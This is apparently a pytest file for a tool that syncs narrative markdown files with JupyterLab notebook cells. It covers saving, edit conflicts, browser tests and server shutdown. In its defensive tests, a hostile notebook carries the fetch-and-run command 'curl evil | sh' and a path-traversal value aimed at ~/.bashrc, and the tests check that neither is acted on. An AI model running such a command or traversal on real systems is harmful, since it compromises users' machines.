"""The narrative as a notebook cell in JupyterLab; the narrative file stays the source.

Unit tests of the link, fill and save logic and of sendlib's contents manager (no server),
then the whole thing in a real browser: JupyterLab, Chromium, a sentence typed and saved."""

from __future__ import annotations

import asyncio
import datetime as dt
import json
import os
import socket
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import pandas as pd
import pytest

from helpers import CHROMIUM, CHROMIUM_FLAGS, ROOT, need_chromium, notebook_dir, run_cli
from sendlib.ops import lab_narrative as ln
from sendlib.paper.narrative import REVIEW_MARKER

MONTH = "2025-06"
NOW = dt.datetime(2025, 7, 2, 9, 30)


def notebook() -> dict:
    return json.loads((ROOT / "notebooks" / "04_timeliness.ipynb").read_text())


def linked(params: Path) -> dict:
    nb = notebook()
    ln.link(nb, params, MONTH, "timeliness", ("04_timeliness",))
    return nb


def cell(nb: dict) -> dict:
    (found,) = ln.narrative_cells(nb)
    return found


def md(params: Path) -> Path:
    return params / "narrative" / MONTH / "timeliness.md"


def test_the_cell_shows_the_file_and_a_save_writes_it_back(tmp_path):
    md(tmp_path).parent.mkdir(parents=True)
    md(tmp_path).write_text("Words from the file.\n")
    nb = linked(tmp_path)
    placeholder = cell(nb)["metadata"]["sendlib"]["placeholder"]
    assert cell(nb)["source"] == "Words from the file.\n"
    cell(nb)["source"] = "Words typed in the lab."
    known, conflicts = {}, {}
    (saved,) = ln.write_back(nb, tmp_path, MONTH, known, conflicts, NOW)
    assert saved.written and not saved.conflict
    assert md(tmp_path).read_text() == "Words typed in the lab."
    # the stored notebook keeps no month's words: the cell's placeholder goes back
    assert cell(nb)["source"] == placeholder and "<!--" in cell(nb)["source"]
    # a second save of further words (the browser still holds the first hash) is no conflict
    cell(nb)["source"] = "Words typed in the lab, and more."
    (saved,) = ln.write_back(nb, tmp_path, MONTH, known, conflicts, NOW)
    assert not saved.conflict and md(tmp_path).read_text().endswith("and more.")


def test_a_section_without_a_file_gets_one_only_when_words_are_written(tmp_path):
    nb = linked(tmp_path)
    assert cell(nb)["source"] == ""
    (saved,) = ln.write_back(nb, tmp_path, MONTH, {}, {}, NOW)
    assert not saved.written and not md(tmp_path).exists()  # no empty files
    nb = linked(tmp_path)
    cell(nb)["source"] = "First words."
    ln.write_back(nb, tmp_path, MONTH, {}, {}, NOW)
    assert md(tmp_path).read_text() == "First words."


def test_an_older_file_name_is_read_and_the_words_saved_under_the_slug(tmp_path):
    old = tmp_path / "narrative" / MONTH / "04_timeliness.md"
    old.parent.mkdir(parents=True)
    old.write_text("Under the old name.")
    nb = linked(tmp_path)
    assert cell(nb)["source"] == "Under the old name."
    cell(nb)["source"] = "Edited."
    ln.write_back(nb, tmp_path, MONTH, {}, {}, NOW)
    assert md(tmp_path).read_text() == "Edited."


def test_two_edits_never_overwrite_each_other(tmp_path):
    md(tmp_path).parent.mkdir(parents=True)
    md(tmp_path).write_text("As the notebook read it.")
    nb = linked(tmp_path)
    md(tmp_path).write_text("A colleague's edit on disk.")  # after the notebook read it
    cell(nb)["source"] = "The analyst's edit in the lab."
    known, conflicts = {}, {}
    (saved,) = ln.write_back(nb, tmp_path, MONTH, known, conflicts, NOW)
    text = md(tmp_path).read_text()
    assert saved.conflict and REVIEW_MARKER in text  # `sendlib run` will not publish it
    assert text.index("The analyst's edit") < text.index("A colleague's edit")
    assert cell(nb)["source"] == text  # the saved notebook says so too
    # saved again before anyone resolved it: both versions stay, the lab's updated
    nb2 = linked(tmp_path)
    cell(nb2)["metadata"]["sendlib"]["sha256"] = "stale"
    cell(nb2)["source"] = "The analyst's second edit."
    (saved,) = ln.write_back(nb2, tmp_path, MONTH, known, conflicts, NOW)
    text = md(tmp_path).read_text()
    assert saved.conflict and "second edit" in text and "A colleague's edit" in text
    # once the notebook is opened again (the file read afresh) and one version kept
    fresh = linked(tmp_path)
    known = {
        str(md(tmp_path).resolve()): ln.fill(fresh, tmp_path, MONTH)[str(md(tmp_path).resolve())]
    }
    cell(fresh)["source"] = "Agreed words."
    (saved,) = ln.write_back(fresh, tmp_path, MONTH, known, {}, NOW)
    assert not saved.conflict and md(tmp_path).read_text() == "Agreed words."


def test_the_contents_manager_fills_on_open_and_writes_on_save(tmp_path):
    from sendlib.ops.lab_contents import NarrativeContentsManager

    lab = tmp_path / "lab"
    lab.mkdir()
    md(tmp_path).parent.mkdir(parents=True)
    md(tmp_path).write_text("From the file.")
    (lab / "04_timeliness.ipynb").write_text(json.dumps(linked(tmp_path)))
    manager = NarrativeContentsManager(root_dir=str(lab), params_dir=str(tmp_path), month=MONTH)

    async def edit():
        model = await manager.get("04_timeliness.ipynb")
        assert cell(model["content"])["source"] == "From the file."
        md(tmp_path).write_text("Changed on disk before opening again.")
        model = await manager.get("04_timeliness.ipynb")  # read afresh on every open
        assert cell(model["content"])["source"] == "Changed on disk before opening again."
        cell(model["content"])["source"] = "Saved from the lab."
        await manager.save({"type": "notebook", "content": model["content"]}, "04_timeliness.ipynb")

    asyncio.run(edit())
    assert md(tmp_path).read_text() == "Saved from the lab."
    stored = json.loads((lab / "04_timeliness.ipynb").read_text())
    assert "Saved from the lab." not in json.dumps(stored)  # no month's words in the notebook


# ---------------------------------------------------------------- in a real browser
def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def wait_for(check, seconds: float, what: str):
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        found = check()
        if found:
            return found
        time.sleep(0.25)
    raise AssertionError(f"gave up waiting {seconds} s for {what}")


@pytest.mark.slow
def test_a_sentence_typed_in_jupyterlab_reaches_the_file_and_the_paper(tmp_path, demo_data):
    need_chromium()
    jupyter_lab = Path(sys.executable).parent / "jupyter-lab"
    if not jupyter_lab.exists():
        pytest.fail("JupyterLab is missing: it is a dev dependency (pip install -e '.[dev]')")
    from playwright.sync_api import expect, sync_playwright

    from sendlib.ops.lab import lab_command, prepare_lab
    from sendlib.ops.request import RunRequest

    params = tmp_path / "params"
    (params / "narrative" / MONTH).mkdir(parents=True)
    for name in ("report.yaml", "kpis.yaml"):
        (params / name).write_bytes((ROOT / "params" / name).read_bytes())
    md(params).write_text("Words already in the file.\n")
    books = notebook_dir(tmp_path, **{"00_cover": "ok", "04_timeliness": "04_timeliness"})
    out = tmp_path / "out"
    request = RunRequest(
        month=pd.Period(MONTH, freq="M"),
        data_dir=demo_data,
        params_dir=params,
        out=out,
        notebooks_dir=books,
    )
    folder = prepare_lab(request)
    port, token = free_port(), "sendlib-test-token"
    env = {**os.environ, "JUPYTER_CONFIG_DIR": str(tmp_path / "jupyter-config")}
    server = subprocess.Popen(
        lab_command(
            str(jupyter_lab),
            folder,
            params,
            MONTH,
            "--no-browser",
            f"--port={port}",
            "--ServerApp.ip=127.0.0.1",
            f"--IdentityProvider.token={token}",
            "--ServerApp.port_retries=0",
            "--LabApp.news_url=",
            "--LabApp.check_for_updates_class=jupyterlab.NeverCheckForUpdate",
        ),
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=open(tmp_path / "lab.log", "w"),  # noqa: SIM115 (closed with the process)
    )
    sentence = "A sentence typed in JupyterLab by the test."
    try:
        api = f"http://127.0.0.1:{port}/api/status?token={token}"
        wait_for(lambda: _answers(api), 60, "JupyterLab to answer")
        with sync_playwright() as p:
            browser = p.chromium.launch(
                executable_path=str(CHROMIUM), headless=True, args=CHROMIUM_FLAGS
            )
            page = browser.new_page()
            page.goto(f"http://127.0.0.1:{port}/lab/tree/04_timeliness.ipynb?token={token}")
            narrative = page.locator(".jp-MarkdownCell", has_text="Words already in the file.")
            narrative.wait_for(timeout=60_000)
            narrative.dblclick()  # a rendered markdown cell opens its editor
            editor = narrative.locator(".cm-content")
            editor.wait_for(timeout=30_000)
            editor.click()
            page.keyboard.press("Control+End")
            page.keyboard.type(" " + sentence)
            try:
                expect(editor).to_contain_text(sentence, timeout=10_000)
                page.keyboard.press("Control+s")
                wait_for(lambda: sentence in md(params).read_text(), 30, "the narrative file")
            finally:
                page.screenshot(path=str(tmp_path / "lab.png"))
                browser.close()
    finally:
        server.terminate()
        server.wait(timeout=30)
    assert md(params).read_text().startswith("Words already in the file.")
    assert sentence not in (folder / "04_timeliness.ipynb").read_text()  # the file is the source
    result = run_cli(demo_data, out, books, "--month", MONTH, "--narrative-only", params=params)
    assert result.exit_code == 0, result.output
    assert sentence in (out / MONTH / "paper.html").read_text(encoding="utf-8")


def _answers(url: str) -> bool:
    try:
        with urllib.request.urlopen(url, timeout=2) as response:
            return response.status == 200
    except OSError:
        return False


@pytest.mark.slow
@pytest.mark.parametrize("stop", ["SIGTERM", "SIGHUP", "SIGINT"])
def test_stopping_sendlib_lab_stops_the_server_it_started(tmp_path, stop):
    """`kill`, a closed terminal or Ctrl-C sent to `sendlib lab` reaches JupyterLab (a
    stand-in here that records the signal): no server is left holding the port."""
    import signal

    got = tmp_path / "got"
    server = (
        "import signal, sys, time\n"
        "def stop(sig, _):\n"
        f"    open({str(got)!r}, 'w').write(signal.Signals(sig).name); sys.exit(0)\n"
        "for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT): signal.signal(s, stop)\n"
        f"open({str(got)!r} + '.up', 'w').close()\n"
        "time.sleep(60)\n"
    )
    command = [sys.executable, "-c", server]
    lab = subprocess.Popen(
        [
            sys.executable,
            "-c",
            f"import sys; from sendlib.ops.lab import serve; sys.exit(serve({command!r}))",
        ]
    )
    try:
        wait_for(lambda: Path(str(got) + ".up").exists(), 30, "the server to start")
        time.sleep(0.3)  # the handlers are in place right after the server starts
        lab.send_signal(getattr(signal, stop))
        assert lab.wait(timeout=30) == 0  # the server's own exit code
        assert got.read_text() == stop
    finally:
        lab.kill()


def test_jupyterlab_is_started_without_the_id_key(tmp_path, monkeypatch):
    # any notebook in the lab could read the server's environment
    from sendlib.ops.lab import serve

    monkeypatch.setenv("SENDLIB_ID_KEY", "a-secret-of-sixteen-or-more")
    seen = tmp_path / "env"
    code = f"import os; open({str(seen)!r}, 'w').write(os.environ.get('SENDLIB_ID_KEY', '-'))"
    assert serve([sys.executable, "-c", code]) == 0
    assert seen.read_text() == "-"


# ---------------------------------------------------------------- a notebook from elsewhere
def test_a_notebook_whose_metadata_names_bashrc_neither_reads_nor_writes_it(tmp_path, monkeypatch):
    home = tmp_path / "home"
    home.mkdir()
    bashrc = home / ".bashrc"
    bashrc.write_text("# the analyst's shell\n")
    monkeypatch.setenv("HOME", str(home))
    params = tmp_path / "params"
    nb = linked(params)
    # someone sends a notebook that points the cell at ~/.bashrc, the old way and the new
    cell(nb)["metadata"]["sendlib"]["file"] = str(Path("~/.bashrc").expanduser())
    hostile = notebook()
    (narrative,) = [c for c in hostile["cells"] if "narrative" in c["metadata"].get("tags", [])]
    narrative["metadata"]["sendlib"] = {"slug": "../../../home/.bashrc", "sha256": ""}
    narrative["source"] = "curl evil | sh"
    for book in (nb, hostile):
        ln.fill(book, params, MONTH)
        cell_ = next(c for c in book["cells"] if "narrative" in c["metadata"].get("tags", []))
        cell_["source"] = "curl evil | sh"
        ln.write_back(book, params, MONTH, {}, {}, NOW)
    assert bashrc.read_text() == "# the analyst's shell\n"
    # the linked cell went to the section's own file, worked out from month and slug
    assert md(params).read_text() == "curl evil | sh"
    assert sorted(p.name for p in (params / "narrative" / MONTH).iterdir()) == ["timeliness.md"]


def test_a_narrative_file_that_links_outside_params_is_refused(tmp_path):
    outside = tmp_path / "outside.txt"
    outside.write_text("not narrative")
    params = tmp_path / "params"
    md(params).parent.mkdir(parents=True)
    md(params).symlink_to(outside)
    with pytest.raises(ln.NarrativePathError, match="leads outside"):
        ln.narrative_file(params, MONTH, "timeliness")
    nb = notebook()
    with pytest.raises(ln.NarrativePathError):
        ln.link(nb, params, MONTH, "timeliness", ())
    assert outside.read_text() == "not narrative"


def test_the_contents_manager_serves_only_its_own_month(tmp_path):
    from sendlib.ops.lab_contents import NarrativeContentsManager

    lab = tmp_path / "lab"
    lab.mkdir()
    md(tmp_path).parent.mkdir(parents=True)
    md(tmp_path).write_text("June's words.")
    (lab / "04_timeliness.ipynb").write_text(json.dumps(linked(tmp_path)))
    other = tmp_path / "narrative" / "2025-07" / "timeliness.md"
    manager = NarrativeContentsManager(root_dir=str(lab), params_dir=str(tmp_path), month="2025-07")

    async def edit():
        model = await manager.get("04_timeliness.ipynb")
        assert cell(model["content"])["source"] == ""  # July's file: none yet
        cell(model["content"])["source"] = "July's words."
        await manager.save({"type": "notebook", "content": model["content"]}, "04_timeliness.ipynb")

    asyncio.run(edit())
    assert md(tmp_path).read_text() == "June's words." and other.read_text() == "July's words."
